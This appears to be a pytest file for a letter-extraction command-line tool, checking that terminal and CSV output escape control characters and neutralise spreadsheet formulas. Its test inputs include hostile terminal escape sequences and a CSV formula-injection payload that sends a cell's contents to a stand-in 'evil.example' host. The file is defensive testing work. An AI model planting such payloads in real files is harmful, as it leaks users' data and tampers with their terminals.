"""What reaches a terminal or a spreadsheet is safe: error lines and the summary escape control
characters (a file name with a newline stays one line; an escape sequence in a letter cannot
retitle or clear the terminal), CSV cells cannot start a formula, and the PDF libraries print
nothing of their own."""

from __future__ import annotations

import csv
import io

from typer.testing import CliRunner

from jtai_extract.cli import app
from jtai_extract.errors import error_line, escape_controls
from jtai_extract.output import csv_cell

from . import hostile

IN_PROCESS = ["-j1", "--timeout", "0", "--max-memory", "0"]
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[31mred\x1b[0m"


def cli(*args: str, stdin: bytes | None = None):
    return CliRunner().invoke(app, [*args, *IN_PROCESS], input=stdin, catch_exceptions=False)


def _letter_with_a_finding(tmp_path, name: str, finding: str):
    text = hostile.text_letter().replace("Areas for improvement\n", f"Areas for improvement\n\uf06e {finding}\n", 1)
    return hostile.write(tmp_path, name, text)


def test_control_characters_are_written_as_visible_escapes():
    assert escape_controls("a\nb\tc\x1b[2J\u202eevil\x7f") == "a\\nb\\tc\\x1b[2J\\u202eevil\\x7f"
    assert escape_controls("Café – ‘fine’ \\n") == "Café – ‘fine’ \\n"


def test_a_file_name_with_a_newline_stays_one_error_line(tmp_path):
    # repro 09: the contract's one-line error was split in two
    bad = hostile.write(tmp_path, "bad\nname.txt", "Minutes of the parish council.\n")
    done = cli(str(bad), "--json")
    assert done.stderr.splitlines() == [
        f"jtai-extract: {tmp_path}/bad\\nname.txt: not_a_jtai_letter: not a joint targeted area inspection letter"]
    assert error_line("a\rb", "empty", "x\x1by") == "jtai-extract: a\\rb: empty: x\\x1by"


def test_escape_sequences_in_a_letter_reach_neither_the_summary_nor_the_csv(tmp_path):
    # repro 17: the summary printed the letter's escape sequences to the terminal
    letter = _letter_with_a_finding(tmp_path, "esc.txt", f"{ESCAPES} finding about the police.")
    summary = cli(str(letter), "--summary")
    assert summary.exit_code == 0 and "\x1b" not in summary.stdout and "\\x1b[2J" in summary.stdout
    table = cli(str(letter), "--csv").stdout
    assert "\x1b" not in table and "\\x1b]0;PWNED" in table


def test_csv_cells_that_would_start_a_formula_are_quoted_as_text(tmp_path):
    # repro 27: a cell starting with = + - @ ran as a formula when the CSV was opened
    finding = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    letter = _letter_with_a_finding(tmp_path, "=HYPERLINK(1).txt", finding)
    rows = list(csv.DictReader(io.StringIO(cli(str(letter), "--csv").stdout)))
    assert {row["letter"] for row in rows} == {"'=HYPERLINK(1)"}
    assert [row["text"][: len(finding) + 1] for row in rows if "evil" in row["text"]] == ["'" + finding]
    assert [csv_cell(v) for v in ("+1", "-1", "@SUM(A1)", "\tx", "plain", "")] == [
        "'+1", "'-1", "'@SUM(A1)", "'\\tx", "plain", ""]


def test_the_pdf_library_prints_nothing_even_without_quiet(tmp_path):
    # repro 13: pdfminer logged "MediaBox missing" lines to stderr, even with -q
    pdf = hostile.write(tmp_path, "nomediabox.pdf", hostile.without_mediabox(hostile.SAMPLE_PDF.read_bytes()))
    done = cli(str(pdf), "--engine", "pdfplumber", "--json")
    assert done.exit_code == 0 and done.stderr == ""
    assert "MediaBox missing" in done.stdout


def test_standard_input_over_its_cap_is_one_error_line(tmp_path):
    # repro 08: endless standard input ended in a MemoryError traceback
    done = cli("-", "--json", "--max-size", "0.001", stdin=b"y\n" * 5000)
    assert done.exit_code == 1 and done.stderr.splitlines() == [
        "jtai-extract: -: too_large: standard input is larger than the 1 KB allowed (--max-size)"]
